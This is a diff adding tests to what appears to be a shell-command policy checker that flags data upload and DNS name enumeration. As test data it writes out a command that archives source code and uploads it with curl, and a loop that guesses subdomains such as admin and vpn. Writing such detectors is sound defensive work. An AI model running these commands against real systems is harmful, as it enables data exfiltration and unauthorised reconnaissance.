@@ -49,3 +49,18 @@ def test_under_the_default_policy_nothing_remote_is_allowed() -> None:
         "pip config set global.index-url https://allowed.lab.test/simple", DEFAULT)
     assert "exfil.http_upload" in rules(
         "tar czf b.tgz src && curl -T b.tgz http://allowed.lab.test/b.tgz", DEFAULT)
+
+
+_CDN_LOOP = ("for h in d1a2b3c4e5f6 e7f8a9b0c1d2 f3e4d5c6b7a8 a9b8c7d6e5f4 b1c2d3e4f5a6 c7d8e9f0a1b2; do "
+             "curl -s -o /dev/null https://$h.{zone}/files/model.bin; done")
+_WORD_LOOP = "for s in www mail vpn dev staging admin; do getent hosts $s.{zone}; done"
+
+
+def test_hashed_cdn_names_are_not_enumeration_and_allowed_zones_are_granted() -> None:
+    # honest: content-addressed CDN hosts, under any zone; a word list under an allowed zone
+    assert rules(_CDN_LOOP.format(zone="allowed.lab.test")) == []
+    assert rules(_CDN_LOOP.format(zone="cdn.example.com"), DEFAULT) == []
+    assert rules(_WORD_LOOP.format(zone="pkg.mirror.example")) == []
+    # a word list of guessed names under a zone the policy does not grant is enumeration
+    assert "recon.dns_name_enumeration" in rules(_WORD_LOOP.format(zone="denied.lab.test"))
+    assert "recon.dns_name_enumeration" in rules(_WORD_LOOP.format(zone="example.org"), DEFAULT)
